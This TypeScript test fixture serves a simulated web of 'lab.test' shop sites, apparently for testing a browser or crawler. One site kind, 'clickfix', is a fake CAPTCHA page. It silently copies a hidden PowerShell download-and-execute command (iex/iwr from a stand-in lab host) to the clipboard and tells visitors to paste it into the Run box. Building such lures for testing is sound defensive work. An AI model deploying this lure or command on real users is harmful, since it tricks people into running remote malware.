import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';

/** A small web of as many hosts as are asked for: `site-<n>.lab.test`. */
export interface LabWeb {
  /** A lab map that sends every host here. */
  readonly labMap: string;
  urlOf(site: number): string;
  close(): Promise<void>;
}

/** One site in so many needs a browser, and the second of each two of those is malicious. */
const renderedOneIn = 32;

export type SiteKind = 'note' | 'page' | 'scripted' | 'clickfix' | 'gone';

export const kindOf = (site: number): SiteKind => {
  if (site % renderedOneIn === 0) return site % (2 * renderedOneIn) === 0 ? 'clickfix' : 'scripted';
  return (['note', 'page', 'note', 'page', 'gone'] as const)[site % 5] ?? 'note';
};

export const startLabWeb = async (): Promise<LabWeb> => {
  const server = createServer((request, response) => {
    const site = Number(/^site-(\d+)\./.exec(request.headers.host ?? '')?.[1] ?? NaN);
    const path = new URL(request.url ?? '/', 'http://lab.test').pathname;
    if (Number.isNaN(site) || path !== '/about') {
      response.writeHead(404, { 'content-type': 'text/plain' }).end('nothing here\n');
      return;
    }
    const [status, type, body] = answerOf(site);
    response.writeHead(status, { 'content-type': type }).end(body);
  });
  await new Promise<void>((resolve) => { server.listen(0, '127.0.0.1', resolve); });
  const { port } = server.address() as AddressInfo; // a TCP server that listens has one
  return {
    labMap: `*.lab.test 127.0.0.1:${port}\n`,
    urlOf: (site) => `http://site-${site}.lab.test/about`,
    close: () => new Promise((resolve) => {
      server.close(() => { resolve(); });
      server.closeAllConnections();
    }),
  };
};

const answerOf = (site: number): readonly [status: number, type: string, body: string] => {
  const kind = kindOf(site);
  switch (kind) {
    case 'note': return [200, 'text/plain', `Opening hours of shop ${site}: nine to five.\n`];
    case 'page': return [200, 'text/html', `<!doctype html><title>Shop ${site}</title><h1>Shop ${site}</h1><p>We mend shoes, bags and umbrellas. Come in between nine and five, or call us.</p>`];
    case 'scripted': return [200, 'text/html', `<!doctype html><title>Shop ${site}</title><h1>Shop ${site}</h1><p id="hours"></p><script>document.getElementById('hours').textContent = 'Open from nine to five, on Sundays closed. We mend shoes, bags and umbrellas of every kind.';</script>`];
    case 'clickfix': return [200, 'text/html', clickfix];
    case 'gone': return [410, 'text/html', '<!doctype html><title>Gone</title><p>This shop has closed.</p>'];
    default: return kind satisfies never;
  }
};

const clickfix = `<!doctype html><title>Verify you are human</title>
<h1>Verify you are human by completing the action below</h1>
<button id="check">I'm not a robot</button>
<ol><li>Press the Windows key <kbd>Win</kbd> + <kbd>R</kbd></li><li>Press <kbd>Ctrl</kbd> + <kbd>V</kbd></li><li>Press <kbd>Enter</kbd></li></ol>
<script>
document.getElementById('check').addEventListener('click', () => {
  const area = document.createElement('textarea');
  area.value = 'powershell -w hidden -nop -c "iex (iwr -useb http://cdn.lab.test/v.txt)" # I am not a robot: Verification ID 146820';
  document.body.append(area);
  area.select();
  document.execCommand('copy');
  area.remove();
});
</script>`;
